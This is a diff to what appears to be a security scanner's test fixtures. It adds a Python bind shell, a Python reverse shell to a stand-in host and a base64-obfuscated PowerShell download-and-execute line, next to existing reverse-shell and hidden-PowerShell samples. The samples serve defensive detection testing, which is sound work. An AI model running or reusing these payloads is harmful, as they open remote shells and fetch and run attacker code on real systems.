@@ -74,6 +74,11 @@ PY_REVERSE = [
     "import os, socket\ns = socket.socket()\ns.connect(('h.example', 9001))\n"
     "[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n"
     "os.execv('/bin/sh', ['sh', '-i'])",
+    # a bind shell
+    "import socket, os, pty\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen(1)\nc, a = s.accept()\n"
+    "for fd in (0, 1, 2):\n    os.dup2(c.fileno(), fd)\npty.spawn('/bin/sh')",
+    "import socket, subprocess\ns = socket.socket()\ns.connect(('h.example', 1))\n"
+    "subprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)",
     # a command loop over a socket
     "import socket, subprocess\ns = socket.socket()\ns.connect(('h.example', 4444))\nwhile True:\n"
     "    cmd = s.recv(1024).decode()\n    s.send(subprocess.check_output(cmd, shell=True))",
@@ -292,6 +297,13 @@ SCRIPT_CRITICAL = [
         "powershell -NoP -W Hidden -enc " + base64.b64encode(PS_PAYLOAD.encode("utf-16-le")).decode(),
     ),
     ("powershell", "LS311", PS_PAYLOAD),
+    (
+        "powershell",
+        "LS313",
+        "iex ([System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('"
+        + base64.b64encode("iwr http://x.example/a.ps1 | iex".encode("utf-16-le")).decode()
+        + "')))",
+    ),
     ("powershell", "LS311", "iwr http://203.0.113.3/a.ps1 -UseBasicParsing | iex"),
     ("powershell", "LS311", "I`EX (I`wr 'http://x.example/a.ps1').Content"),
     (
